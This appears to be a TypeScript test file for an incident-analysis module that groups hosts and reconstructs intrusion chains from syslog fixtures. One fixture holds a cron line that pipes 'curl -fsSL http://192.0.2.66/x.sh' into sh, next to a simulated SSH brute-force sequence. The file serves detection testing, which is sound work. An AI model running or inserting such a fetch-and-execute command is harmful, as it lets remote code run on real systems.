import { describe, expect, test } from 'bun:test';
import { accepted, failures, read, sshd } from '../incident/incident.fixture.ts';
import { eventFixture, logFixture } from '../model/facts/event.fixture.ts';
import type { LogEvent } from '../model/facts/event.ts';
import { printableText } from '../model/text.ts';
import type { EventHost, StoredEvent } from '../store/event-store.ts';
import { analyseHosts, type HostsRequest } from './host-analyses.ts';

const logOf = (host: string): string => (host === '' ? 'linux.log.auth' : 'folder.syslog');

/** A case with these events of each host; those of the empty name are the scan's own. */
function caseOf(hosts: Readonly<Record<string, readonly LogEvent[]>>, ownName = 'web-1'): HostsRequest {
  const all = new Map(Object.entries(hosts).map(([name, events]) => [printableText(name), events] as const));
  return {
    hosts: [...all].map(
      ([host, events]): EventHost => ({
        host,
        events: events.length,
        byLog: new Map([[logOf(host), events.length]]),
        firstUs: Math.min(...events.map(({ us }) => us)),
        lastUs: Math.max(...events.map(({ us }) => us)),
      }),
    ),
    logs: [],
    *cluesOf(host): Generator<StoredEvent> {
      const log = logOf(host);
      for (const event of all.get(host) ?? []) yield { event, host, log, format: 'syslog' };
    },
    own: { name: ownName, scene: undefined, nowUs: 0, isRunning: true },
  };
}

const emptyScene = {
  files: [],
  entries: [],
  miners: [],
  keys: [],
  doors: [],
  addresses: new Set<string>(),
};
const some = [eventFixture({ us: 1e15, what: 'message' })];
const names = (request: HostsRequest): readonly string[] =>
  analyseHosts(request).hosts.map(({ name }) => name);

describe('hosts of a case', () => {
  test('are told apart by their names; the one that was scanned is among them where nothing was found on it', () => {
    const request = caseOf({ '': some, 'db-1': some, 'WEB-1.example.com': some, 'app-2': some });
    expect(names(request)).toEqual(['db-1', 'WEB-1.example.com', 'app-2']);
    expect(names({ ...request, own: { ...request.own, scene: emptyScene } })).toEqual(['db-1', 'app-2']);
  });

  test('go by a short and a whole name, unless two whole names share the short one', () => {
    const one = caseOf({ 'db-1': some, 'db-1.example.com': [...some, ...some] });
    expect(analyseHosts(one).hosts.map(({ name, events }) => [name, events])).toEqual([
      ['db-1.example.com', 3],
    ]);
    const two = caseOf({ 'db-1': some, 'db-1.example.com': some, 'db-1.example.net': some });
    expect(names(two).toSorted()).toEqual(['db-1', 'db-1.example.com', 'db-1.example.net']);
  });

  test('on which nothing was found are told in a line', () => {
    expect(analyseHosts(caseOf({ 'db-1': some })).hosts).toEqual([
      { name: 'db-1', logs: 0, events: 1, from: '2001-09-09T01:46:40Z', to: '2001-09-09T01:46:40Z' },
    ]);
  });

  test('with a guesser that came in and a job after it: probable, and each line is told once', () => {
    const job = (when: string) =>
      sshd(when, '(root) CMD (curl -fsSL http://192.0.2.66/x.sh | sh)').replace('sshd[', 'CRON[');
    const events = read(
      failures('2024-03-10 02:00:00', 90, 20, ['203.0.113.66'], ['root', 'admin', 'pi']) +
        accepted('2024-03-10 02:31:00', 'root', '203.0.113.66') +
        job('2024-03-10 02:32:00') +
        job('2024-03-10 02:33:00'),
    );
    const [host] = analyseHosts(caseOf({ 'db-1': events })).hosts;
    expect(host?.entry?.[0]).toMatchObject({
      vector: 'ssh-brute-force',
      grade: 'probable',
      missing: ['no-inode-times'],
    });
    expect(host?.entry?.[0]?.chain.map(({ step }) => step)).toEqual(['attempt', 'success', 'persistence']);
  });

  test('beyond the bound are counted, those with most events are looked at', () => {
    const forged = Object.fromEntries(Array.from({ length: 500 }, (_, n) => [`forged-${n}`, some]));
    const request = caseOf({ ...forged, busy: [...some, ...some] });
    const bounded = analyseHosts({ ...request, bounds: { hosts: 3, ms: 60_000 } });
    expect(bounded.hosts[0]?.name).toBe('busy');
    expect([bounded.hosts.length, bounded.left]).toEqual([3, 498]);
    expect(analyseHosts({ ...request, bounds: { hosts: 3, ms: -1 } })).toEqual({ hosts: [], left: 501 });
  });

  test('say nothing of the one that was scanned where it has no scene, or no log is there', () => {
    const request = caseOf({ 'web-1': some });
    expect(analyseHosts(request).own).toBeUndefined();
    expect(analyseHosts({ ...request, own: { ...request.own, scene: emptyScene } }).own).toMatchObject({
      entry: [],
    });
    const none = caseOf({ 'db-1': some });
    expect(analyseHosts({ ...none, own: { ...none.own, scene: emptyScene } }).own).toBeUndefined();
  });

  test('that run no more were busy up to their end, and last logins reach back to nothing', () => {
    const hour = 3600e6;
    const start = Date.UTC(2024, 0, 10) * 1000;
    const { kind, precision, certain, host, text } = eventFixture({ us: start, what: 'message' });
    const loads = Array.from(
      { length: 48 },
      (_, index): LogEvent => ({
        ...{ kind, precision, certain, host, text, what: 'load', seconds: 3600 },
        source: { source: printableText('sa10'), offset: index },
        us: start + (index + 1) * hour,
        busy: index < 30 ? 4 : 97,
      }),
    );
    const lastlog = { source: printableText('lastlog2.db'), line: 1 };
    const last = eventFixture({ us: start - 9e12, what: 'login', source: lastlog });
    const miner = {
      ...{ pid: 1, account: host, startUs: start + 47 * hour, executable: printableText('/tmp/x') },
      ...{ parents: [], source: { source: printableText('/proc/1') }, text },
    };
    const scene = {
      ...{ files: [], entries: [], miners: [miner], keys: [], doors: [], addresses: new Set<string>() },
    };
    const request = caseOf({ 'web-1': [last, ...loads] });
    const log = { ...logFixture, source: lastlog, host: printableText('web-1'), lastOnly: true } as const;
    const nowUs = start + 90 * 24 * hour;
    const own = { ...request.own, scene, nowUs, isRunning: false };
    const analysed = analyseHosts({ ...request, logs: [log], own }).own;
    expect(analysed?.onset).toMatchObject({ time: '2024-01-11T06:00:00Z', by: 'load', certain: true });
    expect(analysed?.horizon?.map(({ source }) => source)).toEqual(['sa10']);
    const running = analyseHosts({ ...request, logs: [log], own: { ...own, isRunning: true } }).own;
    expect(running?.onset?.by).toBe('miner');
  });
});
